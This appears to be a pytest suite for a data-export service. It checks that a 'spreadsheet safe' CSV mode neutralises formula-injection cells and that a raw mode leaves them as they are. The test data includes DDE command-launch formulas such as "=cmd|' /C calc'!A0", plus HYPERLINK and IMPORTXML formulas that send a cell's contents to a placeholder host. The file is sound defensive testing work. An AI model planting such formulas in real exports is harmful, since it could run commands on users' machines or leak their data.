"""Text that a spreadsheet would run as a formula is harmless in the safe dialect, and
untouched in the other one."""

from __future__ import annotations

import csv
import io
import shutil
import sqlite3
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from exportd.v1 import job_pb2
from tests.support import rpc
from tests.support.server import Server, serve, settings

SAFE = job_pb2.CSV_DIALECT_SPREADSHEET_SAFE
RAW = job_pb2.CSV_DIALECT_RAW

CORES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?"&A1,"click")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
)
LEADS = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\n\n ",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\x01",
    "\x1f ",
    "\x0b\x0c",
)
PAYLOADS = [lead + core for core in CORES for lead in LEADS] + [
    "\tplain",
    "\rplain",
    "\nplain",
    '="quoted ""twice"""',
    '=1,"+1"\n-1',
    "=",
    "-",
]
HARMLESS = [
    "plain",
    "a=1",
    "1-1",
    "'=1",
    '"=1+1"',
    "a\n=1",
    " padded",
    "[-1]",
    "ok,=1",
    "NULL",
    "\\N",
    "%+1",
    "",
]
HEADERS = ['=1+1"', "+h", "-h", "@h", " =h", "\t=h", "\n=h", "\uff1dh", "a,=h", "plain"]
TRIGGERS = "=+-@"


def is_trigger(cell: str) -> bool:
    """Whether a cell begins as a formula may, by Unicode's own idea of what a character
    is a wide form of, and of what is nothing to be seen."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    for character in cell:
        if character.isspace() or unicodedata.category(character) in {"Cc", "Cf", "Zs"}:
            continue
        return unicodedata.normalize("NFKC", character)[:1] in TRIGGERS
    return False


def test_the_payloads_are_payloads() -> None:
    assert all(map(is_trigger, PAYLOADS))
    assert not any(map(is_trigger, HARMLESS))
    assert [is_trigger(name) for name in HEADERS] == [True] * 8 + [False] * 2


TEXTS = [*PAYLOADS, *HARMLESS]


@pytest.fixture
async def server(tmp_path: Path) -> AsyncIterator[Server]:
    """Payloads as values, between missing ones and beside numbers, and as the names of
    columns."""
    with closing(sqlite3.connect(tmp_path / "t.db")) as database:
        database.execute(
            "CREATE TABLE texts (id INTEGER, gone TEXT, payload TEXT, again TEXT,"
            " n INTEGER, x REAL)"
        )
        database.executemany(
            "INSERT INTO texts VALUES (?, NULL, ?, ?, ?, ?)",
            [
                (i, text, text if i % 2 else None, -i, -i / 4)
                for i, text in enumerate(TEXTS)
            ],
        )
        quoted = [name.replace('"', '""') for name in HEADERS]
        columns = ", ".join(f'"{name}" TEXT' for name in quoted)
        database.execute(f"CREATE TABLE headers ({columns})")
        marks = ", ".join("?" * len(HEADERS))
        database.execute(f"INSERT INTO headers VALUES ({marks})", ["=x"] * len(HEADERS))
        database.commit()
    catalogue = tmp_path / "datasets.toml"
    catalogue.write_text(
        '[connections.c]\nurl = "sqlite:///t.db"\n'
        '[datasets.texts]\nconnection = "c"\ntable = "texts"\n'
        '[datasets.headers]\nconnection = "c"\ntable = "headers"\n'
    )
    async with serve(settings(tmp_path / "data", catalogue=catalogue)) as running:
        yield running


async def exported(
    server: Server,
    dataset: str,
    dialect: Any,
    columns: tuple[str, ...] = (),
    **options: Any,
) -> str:
    job = await rpc.export(
        server.stub,
        dataset,
        columns=columns,
        csv_options=job_pb2.CsvOptions(dialect=dialect, **options),
    )
    return (await rpc.download(server.stub, job.job_id)).decode()


def cells(text: str, delimiter: str = ",") -> list[list[str]]:
    """By a parser of Python's."""
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def without_numbers(row: list[str]) -> list[str]:
    return row[1:4]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|", " "])
@pytest.mark.parametrize("marker", ["", "NULL", "\\N"])
async def test_no_cell_of_the_safe_dialect_begins_as_a_formula(
    server: Server, delimiter: str, marker: str
) -> None:
    text = await exported(server, "texts", SAFE, delimiter=delimiter, null_marker=marker)
    head, *rows = cells(text, delimiter)
    assert head == ["id", "gone", "payload", "again", "n", "x"]
    assert len(rows) == len(TEXTS)
    for number, row in enumerate(rows):
        assert not any(map(is_trigger, without_numbers(row))), row
        armed = number < len(PAYLOADS)
        wanted = ("'" if armed else "") + TEXTS[number]
        assert row[:4] == [str(number), marker, wanted, wanted if number % 2 else marker]
        # Numbers run nothing and stay what they are.
        assert (int(row[4]), float(row[5])) == (-number, -number / 4)


async def test_no_name_of_a_column_begins_as_a_formula(server: Server) -> None:
    head, row = cells(await exported(server, "headers", SAFE))
    assert head == [f"'{name}" for name in HEADERS[:8]] + HEADERS[8:]
    assert not any(map(is_trigger, head))
    assert row == ["'=x"] * len(HEADERS)
    (only,) = cells(await exported(server, "headers", SAFE, header=False))
    assert only == row


async def test_the_raw_dialect_changes_nothing(server: Server) -> None:
    head, *rows = cells(await exported(server, "texts", RAW))
    assert [row[2] for row in rows] == TEXTS
    assert await exported(server, "texts", job_pb2.CSV_DIALECT_UNSPECIFIED) == (
        await exported(server, "texts", RAW)
    )
    head, row = cells(await exported(server, "headers", RAW))
    assert head == HEADERS
    assert row == ["=x"] * len(HEADERS)


@pytest.mark.parametrize("marker", ["=1+1", "-", " @x", "\uff1d1", "\t"])
async def test_a_marker_of_missing_values_is_no_formula_either(
    server: Server, marker: str
) -> None:
    options = job_pb2.CsvOptions(dialect=SAFE, null_marker=marker)
    refused = await rpc.refusal(
        server.stub.CreateExport(rpc.request("texts", csv_options=options))
    )
    assert refused.fields == ["csv_options.null_marker"]
    text = await exported(server, "texts", RAW, ("gone", "n"), null_marker=marker)
    assert all(row[0] == marker for row in cells(text)[1:])


def office() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def opened(folder: Path, text: str) -> list[ET.Element]:
    """The cells of a sheet as LibreOffice has them once it has opened a CSV file, told to
    take formulas for formulas."""
    program = office()
    assert program is not None
    (folder / "t.csv").write_text(text, newline="")
    # Comma, quote, UTF-8, from the first line on, all columns standard, in English,
    # quoted cells not all text, numbers told, not as shown, formulas run.
    tokens = "44,34,76,1,,1033,false,true,false,false,false,-1,true"
    subprocess.run(
        [
            program,
            "--headless",
            f"-env:UserInstallation=file://{folder}/profile",
            f"--infilter=Text - txt - csv (StarCalc):{tokens}",
            *("--convert-to", "fods", "--outdir", str(folder), str(folder / "t.csv")),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    sheet = ET.parse(next(folder.glob("t*.fods")))  # noqa: S314 - just written
    space = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
    return list(sheet.iter(f"{space}table-cell"))


@pytest.mark.minutes
@pytest.mark.skipif(office() is None, reason="needs LibreOffice: there is no soffice")
async def test_a_spreadsheet_runs_nothing_of_the_safe_dialect(
    server: Server, tmp_path: Path
) -> None:
    formula = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"
    for dialect, runs in ((SAFE, False), (RAW, True)):
        folder = tmp_path / str(dialect)
        folder.mkdir()
        found = opened(folder, await exported(server, "texts", dialect))
        assert any(formula in cell.attrib for cell in found) == runs
